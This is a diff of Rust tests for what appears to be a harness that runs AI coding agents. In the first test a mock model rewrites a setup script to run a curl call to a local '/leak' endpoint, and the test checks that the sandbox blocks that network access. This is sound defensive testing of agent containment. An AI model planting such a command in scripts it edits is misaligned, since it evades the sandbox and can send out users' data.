@@ -114,3 +114,52 @@ async fn a_set_up_that_changes_the_patch_is_refused_with_the_files() {
     assert!(error.contains("npm ci") && error.ends_with("greet.sh, lock"), "{error}");
     assert_eq!(model.keys().len(), 0);
 }
+
+/// The model rewrites the script that the set-up runs: neither the verification nor a later attempt lets that out.
+#[tokio::test]
+async fn what_a_model_wrote_never_has_a_network() {
+    let (port, served) = outside();
+    let leak = format!("curl -s --noproxy '' http://127.0.0.1:{port}/leak");
+    let model = ModelServer::start(move |turn, _| {
+        Say::Content(match turn {
+            0 => vec![tool("edit", json!({"path": "fetch.sh", "old": "true", "new": leak.as_str()}))],
+            _ => vec![tool("finish", json!({"summary": "fetches more"}))],
+        })
+    })
+    .await;
+    let mut team = Team::new(&model.url).await;
+    team.set("SETUP_HOSTS", format!("127.0.0.1:{port}"));
+    let repo = Repo::with(&[("fetch.sh", "true\n")]);
+    let job = NewJob {
+        setup_command: Some("sh fetch.sh".to_owned()),
+        test_command: Some("test -s fetch.sh".to_owned()),
+        ..NewJob::new(Task::BugFix, repo.url(), "fetch more")
+    };
+    let _worker = team.worker();
+    let job = team.api.submit(&job).await.unwrap();
+    let (row, _) = team.finished(job).await;
+    assert_eq!(row.outcome, Some(Outcome::Verified), "{}", team.log());
+    assert_eq!(served.load(Ordering::Relaxed), 0);
+}
+
+/// A test that rewrites a file of the repository leaves it to the commands, whoever put it back.
+#[tokio::test]
+async fn what_the_first_test_run_changed_can_be_changed_by_commands() {
+    let model = ModelServer::start(|turn, _| {
+        Say::Content(match turn {
+            0 => vec![tool("bash", json!({"command": "echo mine > log.txt && echo fixed > state.txt"}))],
+            _ => vec![tool("finish", json!({"summary": "fixed"}))],
+        })
+    })
+    .await;
+    let team = Team::new(&model.url).await;
+    let repo = Repo::with(&[("log.txt", "0\n"), ("state.txt", "broken\n")]);
+    let job = NewJob {
+        test_command: Some("date +%N > log.txt; grep -q fixed state.txt".to_owned()),
+        ..NewJob::new(Task::BugFix, repo.url(), "mend the state")
+    };
+    let _worker = team.worker();
+    let job = team.api.submit(&job).await.unwrap();
+    let (row, events) = team.finished(job).await;
+    assert_eq!(row.outcome, Some(Outcome::Verified), "{events:#?}");
+}
